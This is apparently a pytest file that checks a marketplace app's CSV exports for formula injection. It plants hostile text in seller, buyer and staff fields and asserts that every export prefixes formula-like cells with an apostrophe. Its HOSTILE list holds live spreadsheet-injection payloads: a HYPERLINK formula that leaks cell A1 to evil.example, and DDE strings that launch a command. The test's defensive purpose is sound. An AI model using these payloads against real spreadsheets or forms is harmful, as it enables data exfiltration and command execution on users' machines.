"""Every CSV the market hands out is safe to open in a spreadsheet: text that a spreadsheet would
run as a formula (a cell beginning with ``=``, ``+``, ``-``, ``@``, tab or carriage return) is
written with a leading ``'``; numbers stay numbers.

The exports are found by walking the app's URL map, so a new ``….csv`` route is tested as soon as
it exists.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
import sqlalchemy as sa

from app.accounts.models import Role
from app.catalog.models import ProductStatus
from app.core.csvcells import csv_cell
from app.core.extensions import db
from app.orders import cart as carts
from app.orders import completion
from app.orders import services as orders
from app.orders.models import OrderStatus
from app.orders.placing import Address
from app.payments import checkout as payment_checkout
from app.payments.models import Provider
from app.payouts import settlements
from app.payouts.models import EntryKind, LedgerEntry
from app.program import offline, quotas
from app.program.calendar import tehran_today
from app.program.offline import OfflineLineInput
from app.reference.models import County
from app.web.http import csv_response
from tests import factories

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-10+20",
    "\t=1+1",
    "\r=1+1",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
WIDEN = {"status": "all", "tab": "all"}
ADDRESS = Address(
    recipient_name="مینا رضایی",
    mobile="09121234567",
    province="سیستان و بلوچستان",
    city="زاهدان",
    address="خیابان دانشگاه، پلاک ۱۲",
    postal_code="9816745639",
)


def cells(response) -> list[str]:  # type: ignore[no-untyped-def]
    body = response.get_data()
    assert body.startswith("\ufeff".encode()), body[:20]
    return [c for row in csv.reader(io.StringIO(body.decode("utf-8")[1:])) for c in row]


def live_formulas(values: list[str]) -> list[str]:
    """Cells a spreadsheet would run: they begin with a formula character and are no number."""
    return [c for c in values if c.startswith(FORMULA) and not NUMBER.fullmatch(c)]


@pytest.fixture(params=HOSTILE, ids=["hyperlink", "dde-plus", "at-sum", "minus", "tab", "cr"])
def planted(request, app):  # type: ignore[no-untyped-def]
    """A market where every free-text field a seller, buyer or staff member fills holds the
    hostile text: seller and owner names, permit number, status reason, product title, hidden
    reason, category and county names, offline-sale place, note and line title."""
    evil: str = request.param
    county = factories.county()
    county.name_fa = county.name_en = evil
    category = factories.category()
    category.name_fa = category.name_en = evil
    owner = factories.user(Role.SELLER, name=evil)
    seller = factories.seller(owner=owner, county_row=county, name=evil)
    seller.permit_number = evil[:60]
    seller.status_reason = evil
    db.session.commit()
    product = factories.product(seller, title=evil, stock=10, category_row=category)
    hidden = factories.product(seller, title=evil, category_row=category)
    hidden.status = ProductStatus.HIDDEN_BY_STAFF
    hidden.hidden_reason = evil
    db.session.commit()

    buyer = factories.user(name=evil)
    carts.add(buyer, None, product.id, 1)
    payment = payment_checkout.place_checkout(
        buyer, ADDRESS, Provider.CASH, "csv-export-token-0001", currency="IRR",
        expiry_minutes=60, max_open_cash_orders=100,
    ).payment  # fmt: skip
    order = payment.orders[0]
    orders.seller_move(order, seller, owner, OrderStatus.CONFIRMED)
    orders.seller_move(order, seller, owner, OrderStatus.SHIPPED, carrier=evil, tracking_code="1")
    orders.seller_move(order, seller, owner, OrderStatus.DELIVERED)
    completion.complete_by_customer(order, buyer)  # a cash sale counts once completed

    staff = factories.user(Role.STAFF, name=evil)
    offline.record_offline_sale(
        seller,
        staff.id,
        sold_on=tehran_today(),
        place=evil,
        note=evil,
        lines=[OfflineLineInput(None, evil, 1, 100_000), OfflineLineInput(product.id, "", 1, 1)],
    )
    staff_client = app.test_client()
    factories.login(staff_client, staff.email)
    other = factories.product(seller, title=evil, category_row=category)
    assert (
        staff_client.post(f"/admin/listings/{other.id}/hide", data={"reason": evil}).status_code
        == 302
    )  # the reason reaches the audit log
    seller_client = app.test_client()
    factories.login(seller_client, owner.email)
    # A settlement batch pays the seller (its account name is the seller's name).
    seller.sheba = "IR062960000000100324200001"
    db.session.add(LedgerEntry(seller_id=seller.id, kind=EntryKind.SALE, amount=5_000_000,
                               key="test:planted-credit"))  # fmt: skip
    db.session.commit()
    batch = settlements.create_batch(tehran_today(), staff.id)
    return {
        "evil": evil,
        "county": county,
        "batch": batch,
        "clients": {"admin": staff_client, "sellers": seller_client},
    }


def csv_routes(app) -> list[tuple[str, str, set[str]]]:  # type: ignore[no-untyped-def]
    return sorted(
        (rule.endpoint, rule.rule, set(rule.arguments))
        for rule in app.url_map.iter_rules()
        if rule.rule.endswith(".csv") and "GET" in (rule.methods or ())
    )


def test_no_export_hands_a_spreadsheet_a_live_formula(app, planted):
    evil = planted["evil"]
    values = {"county_id": planted["county"].id, "batch_id": planted["batch"].id}
    routes = csv_routes(app)
    assert len(routes) >= 15, routes  # every export of the market is found
    neutralised_in: set[str] = set()
    for endpoint, rule, arguments in routes:
        unknown = arguments - set(values)
        assert not unknown, f"{rule}: give the test a value for {unknown}"
        with app.test_request_context():
            url = app.url_for(endpoint, **{k: values[k] for k in arguments})
        client = planted["clients"].get(endpoint.split(".")[0]) or app.test_client()
        # As it opens, and widened to every status / tab (other exports ignore the arguments).
        for query in ({}, WIDEN):
            response = client.get(url, query_string=query)
            assert response.status_code == 200, (rule, response.status_code)
            assert response.mimetype == "text/csv", rule
            found = cells(response)
            assert live_formulas(found) == [], (rule, live_formulas(found))
            text = " ".join(evil.split())  # fields keep the text as typed or with spaces folded
            if any(c in ("'" + evil, "'" + text) for c in found):
                neutralised_in.add(rule)
    # The planted text did reach the exports that show seller, product and sale text.
    assert {
        "/admin/sellers.csv",
        "/admin/listings.csv",
        "/admin/offline-sales.csv",
        "/admin/sales.csv",
        "/admin/sales/ministry.csv",
        "/admin/audit.csv",
        "/admin/counties/<int:county_id>/sellers.csv",
        "/seller/numbers.csv",
        "/admin/settlements/<int:batch_id>/transfers.csv",
    } <= neutralised_in, sorted(neutralised_in)


def test_cells_are_neutralised_and_numbers_stay_numbers(app):
    assert csv_cell(-10) == -10 and csv_cell(0) == 0 and csv_cell(1_250_000) == 1_250_000
    assert csv_cell(None) == ""
    for evil in HOSTILE:
        assert csv_cell(evil) == "'" + evil
    assert csv_cell("رومیزی - سوزن‌دوزی") == "رومیزی - سوزن‌دوزی"  # a dash inside is text
    with app.test_request_context():
        response = csv_response(["a", "b", "c"], [[-10, "-10", "=1+1"]], "x.csv")
    assert cells(response) == ["a", "b", "c", "-10", "'-10", "'=1+1"]


def test_a_county_name_with_a_leading_formula_character_still_uploads_back(app):
    """The quota file uploads back unchanged: a neutralised county name is read as typed."""
    county = factories.county()
    county.name_fa = "-منطقه آزاد"
    db.session.commit()
    text = "county_fa,programme_year,target_sellers\r\n'-منطقه آزاد,1405,10\r\n"
    plan = quotas.plan_quotas(text)
    assert [row.item.county_id for row in plan.rows] == [county.id]
    assert db.session.scalar(sa.select(County.name_fa).where(County.id == county.id)).startswith(
        "-"
    )
